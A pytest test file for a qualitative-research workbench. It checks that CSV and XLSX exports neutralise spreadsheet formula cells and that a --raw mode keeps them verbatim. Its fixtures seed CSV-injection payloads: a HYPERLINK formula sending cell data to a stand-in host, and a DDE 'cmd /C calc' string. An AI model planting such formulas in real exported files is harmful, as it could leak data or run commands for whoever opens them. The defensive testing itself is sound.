"""No CSV or XLSX file workbench writes holds a cell a spreadsheet would run (OWASP's rule).

A project whose interview text, code name, coder, memo and case attribute begin with formula
characters is exported through every CSV and XLSX writer; each cell must come out inert, and
exactly as stored with ``--raw``.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from workbench.cells import neutralise, restore
from workbench.cli import cli
from workbench.ingest.base import ParsedTranscript
from workbench.ops.codes import add_code
from workbench.ops.coding import add_memo, apply_code
from workbench.ops.documents import add_document
from workbench.store.project import Project

FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"click")'
TEXT = FORMULA + " said Rosa. @SUM(1+1) was the budget. -2+3 is a sum. +7 votes. The end."
CODE = "=1+2"
CODER = "@bob"
MEMO = "-cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_gets_an_apostrophe(start: str) -> None:
    value = start + "x"
    assert neutralise(value) == "'" + value
    assert neutralise(value, raw=True) == value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["-3", "+0.5", "-1e5", "plain", "'quoted", "", 7, -2.5, None])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


@pytest.fixture()
def project_file(tmp_path: Path) -> Path:
    path = tmp_path / "p.db"
    with Project.open(path) as project:
        add_document(project, ParsedTranscript(TEXT, []), name="rosa")
        add_code(project, CODE)
        coding = apply_code(project, "rosa", CODE, 0, len(FORMULA), coder=CODER)
        apply_code(project, "rosa", CODE, TEXT.index("-2+3"), TEXT.index(" is a sum"), coder="ana")
        add_memo(project, "coding", coding, MEMO)
        project.conn.execute("INSERT INTO cases (name, created_at) VALUES ('rosa', '2024')")
        project.conn.execute("INSERT INTO attributes (name, type) VALUES ('region', 'text')")
        project.conn.execute(
            "INSERT INTO case_attributes (case_id, attribute_id, value) VALUES (1, 1, '=2+3')"
        )
        project.conn.execute("UPDATE documents SET case_id = 1")
    return path


def invoke(path: Path, *args: str) -> str:
    result = CliRunner().invoke(cli, ["--project", str(path), *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def inert(cells: list[str]) -> None:
    """No cell starts with a formula character unless it is a plain number."""
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell


def test_every_csv_writer_neutralises_formula_cells(project_file: Path, tmp_path: Path) -> None:
    listing = cells_of(invoke(project_file, "codings", "--format", "csv"))
    assert "'" + FORMULA in listing and "'" + CODE in listing and "'" + CODER in listing
    inert(listing)
    inert(cells_of(invoke(project_file, "cases", "list", "--format", "csv")))
    inert(cells_of(invoke(project_file, "codebook", "show", "--format", "csv")))
    for command, out in (
        (["export", "codings"], tmp_path / "codings.csv"),
        (["export", "matrix"], tmp_path / "matrix.csv"),
        (["export", "units"], tmp_path / "units.csv"),
    ):
        invoke(project_file, *command, str(out))
        cells = cells_of(out.read_text("utf-8"))
        inert(cells)
        assert "'" + CODE in cells, command
    exported = cells_of((tmp_path / "codings.csv").read_text("utf-8"))
    assert "'" + MEMO in exported and "'-2+3" in exported
    invoke(project_file, "cooccur", "--format", "csv", "--out", str(tmp_path / "pairs.csv"))
    inert(cells_of((tmp_path / "pairs.csv").read_text("utf-8")))


def test_raw_writes_the_text_untouched(project_file: Path, tmp_path: Path) -> None:
    listing = cells_of(invoke(project_file, "codings", "--format", "csv", "--raw"))
    assert FORMULA in listing and CODE in listing and CODER in listing
    invoke(project_file, "export", "codings", str(tmp_path / "raw.csv"), "--raw")
    assert MEMO in cells_of((tmp_path / "raw.csv").read_text("utf-8"))


def test_exported_codings_import_back(project_file: Path, tmp_path: Path) -> None:
    out = tmp_path / "codings.csv"
    invoke(project_file, "export", "codings", str(out))
    with Project.open(project_file) as project:
        project.conn.execute("DELETE FROM memos")
        project.conn.execute("DELETE FROM codings")
    assert "imported 2 coding(s)" in invoke(project_file, "codings", "import", str(out))
    with Project.open(project_file) as project:
        coders = {c.name for c in project.coders()}
        memos = [m.text for m in project.memos("coding")]
        spans = sorted((c.start, c.end) for c in project.codings())
    assert CODER in coders and "'" + CODER not in coders
    assert memos == [MEMO]
    assert spans[0] == (0, len(FORMULA))


def test_xlsx_cells_are_strings_never_formulas(project_file: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    invoke(project_file, "export", "matrix", str(tmp_path / "m.xlsx"))
    invoke(project_file, "report", "codebook", str(tmp_path / "c.xlsx"))
    invoke(project_file, "cooccur", "--format", "xlsx", "--out", str(tmp_path / "h.xlsx"))
    for name in ("m.xlsx", "c.xlsx", "h.xlsx"):
        book = load_workbook(tmp_path / name)
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], name
        assert CODE in {c.value for c in cells}, name  # shown as it is, as text
